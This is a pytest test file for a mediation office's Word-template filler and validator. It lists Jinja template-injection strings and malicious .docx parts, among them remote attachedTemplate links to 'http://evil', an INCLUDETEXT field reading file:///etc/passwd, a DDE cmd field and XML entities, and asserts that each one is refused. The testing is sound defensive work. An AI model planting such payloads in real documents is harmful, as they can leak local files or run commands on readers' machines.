"""An office's own Word template: filled with a paper's content, in a language where nothing can be called."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace

import docx
import pytest
from docx.shared import Cm

from mediation.cases.documents import acceptance
from mediation.records import documents
from mediation.records.documents.word.file import EDITED
from mediation.records.errors import Broken, FileTooLarge, WrongType
from mediation.records.errors.templates import WordNotAllowed, WordUnknown, WordUnreadable, WordUnsafe
from mediation.records.rules.word_templates import check_word
from mediation.records.service.templates import word_fields, word_starter
from tests.factories.paper_samples import SAMPLES
from tests.factories.papers import ACCEPTANCE, APPLICANT, HEAD, RESPONDENT
from tests.unit.paper.conftest import without_space
from tests.unit.paper.test_word import read

KIND = "acceptance"
TAG = "<w:r><w:t>{%r if 备注 %}</w:t></w:r>"
PAGE = "<w:r><w:instrText> PAGE </w:instrText></w:r>"
SHOWN = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(*paragraphs: str, head: str = "") -> bytes:
    """A Word file of these paragraphs."""
    file = docx.Document()
    for text in paragraphs:
        file.add_paragraph(text)
    if head:
        file.sections[0].header.paragraphs[0].text = head
    held = io.BytesIO()
    file.save(held)
    return held.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    """A Word file that carries one more part, or this one in place of its own."""
    held = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word("{{ 单位 }}"))) as packed, zipfile.ZipFile(held, "w") as again:
        for part in packed.infolist():
            if part.filename != name:
                again.writestr(part.filename, packed.read(part))
        again.writestr(name, content)
    return held.getvalue()


def outside(kind: str, target: str, *, prefix: str = "", mode: str = "External") -> bytes:
    """Relationships of one part that name this target."""
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    named = f"xmlns:{prefix.rstrip(':')}" if prefix else "xmlns"
    inner = f'<{prefix}Relationship Id="r1" Type="{office}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<{prefix}Relationships {named}="{package}">{inner}</{prefix}Relationships>'.encode()


def field(*code: str) -> bytes:
    """A field of Word whose code is split over these runs; what is markup stays so."""
    runs = "".join(one if one.startswith("<") else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in code)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f'<w:p xmlns:w="{W}">{begin}{runs}{end}</w:p>'.encode()


def filled(content: bytes, kind: str = KIND) -> bytes:
    fields = word_fields(kind)
    return documents.filled(content, fields, fields, SAMPLES[kind](HEAD).data)


@pytest.mark.parametrize("kind", SAMPLES)
def test_the_starter_names_every_field_and_can_be_filled(kind: str) -> None:
    said = read(filled(word_starter(kind), kind))
    assert "{{" not in said
    assert "{%" not in said
    for name, value in word_fields(kind).items():
        assert name.isidentifier()
        if isinstance(value, str):
            assert without_space(value) in said


def test_fields_loops_and_the_head_are_filled() -> None:
    made = word(
        "{%p for 人 in 当事人 %}", "{{ 人.身份 }}，{{ 人.姓名 }}{{ 人.名称 }}", "{%p endfor %}",
        "{% if 备注 %}有备注{% endif %}", head="{{ 单位 }}",
    )  # fmt: skip
    content = filled(made)
    assert f"申请人，{APPLICANT.name}被申请人，{RESPONDENT.name}有备注" in read(content)
    assert HEAD.organisation in read(content, "word/header1.xml")


def test_every_page_of_an_offices_own_file_says_that_it_is_no_official_paper() -> None:
    file = docx.Document(io.BytesIO(word("{{ 单位 }}", head="本局红头")))
    file.settings.odd_and_even_pages_header_footer = True
    first, second = file.sections[0], file.add_section()  # the second shares the first one's heads
    first.different_first_page_header_footer = True
    second.even_page_header.add_table(1, 1, Cm(5)).cell(0, 0).text = "表格做的头"
    held = io.BytesIO()
    file.save(held)
    content = filled(held.getvalue())
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        heads = [read(content, one) for one in packed.namelist() if one.startswith("word/header")]
    assert len(heads) == 3
    assert all(one.startswith(without_space(f"演示{EDITED}")) and one.count(EDITED) == 1 for one in heads)


def test_a_file_without_page_settings_is_marked_too() -> None:
    file = docx.Document(io.BytesIO(word("{{ 单位 }}")))
    body = file.element.body
    body.remove(body.sectPr)
    held = io.BytesIO()
    file.save(held)
    assert EDITED in read(filled(held.getvalue()), "word/header1.xml")


def test_the_office_finds_its_fields_by_the_forms_own_names() -> None:
    data = dict(SAMPLES[KIND](HEAD).data)
    data["template"] = {"words": {"纠纷类型": "类别"}, "layout": {}}
    data["rows"] = [[{"label": "类别", "value": "物业"}]]
    made = documents.filled(word("类别是{{ 纠纷类型 }}"), documents.fields_of(KIND, data), word_fields(KIND), data)
    assert "类别是物业" in read(made)


def test_what_a_paper_lacks_stays_empty_and_what_a_party_types_stays_text() -> None:
    typed = "{{ 7 * 7 }} {% for x in y %} <w:br/> & {_{ 单位 }_}"
    party = replace(APPLICANT, name=typed)
    paper = acceptance(HEAD, replace(ACCEPTANCE, parties=(party,), facts=typed, referrer=None))
    content = documents.fields_of(KIND, paper.data)
    said = read(documents.filled(word("{{ 纠纷简要情况 }}|{{ 移送单位 }}|"), content, word_fields(KIND), {}))
    assert "{{7*7}}{%forxiny%}<w:br/>&" in said
    assert said.endswith("||")


@pytest.mark.parametrize(
    "evil",
    [
        "{{ 单位.__class__ }}",
        "{{ 单位.upper() }}",
        "{{ 单位|upper }}",
        "{{ 当事人[0] }}",
        "{{ 1 + 1 }}",
        "{{ '长' * 99999999 }}",
        "{% set x = 单位 %}",
        "{% import 'x' as y %}",
        "{% include 'x' %}",
        "{% for a in 当事人 recursive %}{% endfor %}",
        "{% for a in 当事人 %}{% for b in 当事人 %}{{ b.姓名 }}{% endfor %}{% endfor %}",
        "{{ cycler }}",
        "{{ self }}",
        "{% macro x() %}{% endmacro %}",
        "{% raw %}{% endraw %}{{ lipsum }}",
        "{{ 单位 ~ 案号 }}",
        "{{ 单位 if 案号 else 编号 }}",
    ],
)
def test_nothing_can_be_called_counted_or_reached(evil: str) -> None:
    for content in (word(evil), word("好", head=evil)):
        with pytest.raises((WordNotAllowed, WordUnknown, WordUnreadable)):
            filled(content)


def test_unknown_fields_are_named_with_what_was_meant() -> None:
    with pytest.raises(WordUnknown) as refused:
        filled(word("{{ 纠纷类形 }}", "{{ 完全没有 }}", "{%p for 人 in 当事人 %}", "{{ 人.性別 }}", "{%p endfor %}"))
    assert "纠纷类形（是不是纠纷类型？）" in refused.value.message
    assert "完全没有" in refused.value.message
    assert "性別" in refused.value.message


@pytest.mark.parametrize("broken", ["{{ 单位", "{% for 人 in 当事人 %}", "{{ }}", "{% endfor %}"])
def test_unmatched_braces_are_a_sentence(broken: str) -> None:
    with pytest.raises((WordUnreadable, WordNotAllowed)):
        filled(word(broken, "后面还有一段"))


def test_a_long_loop_is_stopped() -> None:
    with pytest.raises(WordNotAllowed):
        filled(word("{%p for 人 in 当事人 %}", "长" * 300_000, "{%p endfor %}"))


@pytest.mark.parametrize(
    "content",
    [
        lambda: with_part("word/vbaProject.xml", b"<a/>"),
        lambda: with_part("word/embeddings/x.xlsx", b"PK"),
        lambda: with_part(
            "word/_rels/settings.xml.rels",
            outside("attachedTemplate", "http://evil/x.dotm"),
        ),
        lambda: with_part("word/extra.xml", b"<!DOCTYPE x [<!ENTITY y 'z'>]><x>&y;</x>"),
        lambda: with_part("word/footer9.xml", field(" INCLUDETEXT file:///etc/passwd ")),
        lambda: with_part("word/footer9.xml", field(" inclu", 'detext "http://evil/x" ')),
        lambda: with_part("word/footer9.xml", field(' = 1 + <w:fldSimple w:instr="DDE cmd"/> ')),
        lambda: with_part("word/footer9.xml", field(" INCLUDE", field(' QUOTE "" ').decode(), "TEXT http://evil/x ")),
        lambda: with_part("word/footer9.xml", field(field(' QUOTE "INCLUDETEXT http://evil" ').decode(), " DATE ")),
        lambda: with_part("word/footer9.xml", field(PAGE.replace("w:r>", "w:del>"), " INCLUDETEXT http://evil ")),
        lambda: with_part("word/footer9.xml", field(f'<x:a xmlns:x="urn:x">{PAGE}</x:a>', " INCLUDETEXT http://evil ")),
        lambda: with_part("word/footer9.xml", field(f"<w:p>{PAGE}</w:p>", " INCLUDETEXT http://evil ")),
        lambda: with_part(
            "word/footer9.xml", b'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil/x.png"/>'
        ),
        lambda: with_part("word/footer9.xml", field(TAG, PAGE, TAG, " INCLUDETEXT http://evil ")),
        lambda: with_part("word/footer9.xml", field(" PAGE {% if 备注 %} ")),
        lambda: with_part("word/_rels/footer9.xml.rels", outside("attachedTemplate", "https://evil/hyperlink")),
        lambda: with_part("word/_RELS/footer9.xml.RELS", outside("image", "https://evil/x.png", prefix="p:")),
        lambda: with_part(
            "word/_rels/footer9.xml.rels", outside("image", "https://evil/x.png").decode().encode("utf-16")
        ),
        lambda: with_part("word/_rels/footer9.xml.rels", outside("aFChunk", "x.html", mode="Internal")),
        lambda: with_part("word/footer9.dat", field(" LINK Excel.Sheet ")),  # the list of types may call it XML
        lambda: with_part("word/footer9.xml", '<!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>'.encode("utf-16")),
        lambda: with_part("word/footer9.xml", b"<w:unfinished"),
        lambda: with_part("word/large.xml", b"<a>" + b"0123456789abcdef" * 300_000 + b"</a>"),
    ],
)
def test_what_reaches_outside_or_carries_something_is_refused(content: Callable[[], bytes]) -> None:
    with pytest.raises((WordUnsafe, Broken, FileTooLarge), match="没有保存"):
        check_word("样板.docx", content())


def test_an_ordinary_word_file_passes_and_others_do_not() -> None:
    assert check_word("C:\\样板 一.docx", word("{{ 单位 }}")) == "样板 一.docx"
    assert check_word("样板.docx", word_starter(KIND)) == "样板.docx"  # with numbers of pages
    for name, content in (
        ("word/_rels/footer9.xml.rels", outside("hyperlink", "https://12348.example/")),
        ("word/footer9.xml", field(" NUM", "PAGES ")),
        ("word/footer9.xml", field(" TOC ", SHOWN, "<w:r><w:t>一、总则</w:t></w:r>", field(" PAGEREF a ").decode())),
        ("word/media/logo.png", b"\x89PNG\r\n\x1a\n"),
    ):
        assert check_word("样板.docx", with_part(name, content)) == "样板.docx"
    with pytest.raises(WrongType):
        check_word("样板.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF")
